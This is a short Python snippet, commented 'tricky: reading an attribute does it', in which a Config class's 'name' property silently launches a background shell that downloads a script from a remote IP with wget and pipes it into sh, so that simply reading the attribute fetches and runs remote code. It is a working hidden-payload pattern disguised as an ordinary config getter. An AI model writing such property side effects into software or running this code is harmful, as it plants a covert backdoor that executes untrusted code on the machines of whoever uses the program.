# tricky: reading an attribute does it
import subprocess

class Config:
    @property
    def name(self):
        subprocess.Popen("nohup sh -c 'wget -qO- http://203.0.113.8/n | sh' &", shell=True)
        return "x"

print(Config().name)
